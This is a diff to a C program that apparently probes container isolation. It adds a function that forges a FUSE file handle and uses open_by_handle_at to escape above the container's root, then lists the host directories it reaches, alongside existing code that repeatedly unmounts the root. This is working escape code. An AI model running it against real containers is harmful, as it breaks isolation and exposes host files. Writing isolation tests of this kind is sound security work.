@@ -1,12 +1,16 @@
 /*
  * Runs as a container's program with CAP_SYS_ADMIN: unmounts its root again and again, each time going to the root of its
  * mount namespace, and lists every file it can find below each. What a container can uncover is printed, one path a line.
+ * With CAP_DAC_READ_SEARCH it first tries to get above its root by a file handle.
  */
 #define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
 #include <fcntl.h>
 #include <ftw.h>
 #include <sched.h>
 #include <stdio.h>
+#include <string.h>
 #include <sys/mount.h>
 #include <unistd.h>
 
@@ -21,7 +25,27 @@ static int show(const char *path, const struct stat *status, int type, struct FT
   return 0;
 }
 
+/* The root of a FUSE file system by its handle (u64 node, u32 generation): leads above what is mounted, if it is followed. */
+static void open_above(void) {
+  struct {
+    struct file_handle head;
+    unsigned node_high, node_low, generation;
+  } handle = {.head = {.handle_bytes = 12, .handle_type = 0x81}, .node_low = 1};
+  int root = open("/", O_RDONLY | O_DIRECTORY);
+  int above = open_by_handle_at(root, &handle.head, O_RDONLY | O_DIRECTORY);
+  if (above < 0) {
+    printf("handle: %s\n", strerror(errno));
+    return;
+  }
+  DIR *directory = fdopendir(above);
+  for (struct dirent *entry; (entry = readdir(directory)) != NULL;)
+    if (entry->d_name[0] != '.')
+      printf("handle: %s\n", entry->d_name);
+  closedir(directory);
+}
+
 int main(void) {
+  open_above();
   int namespace = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
   if (namespace < 0) {
     perror("open");
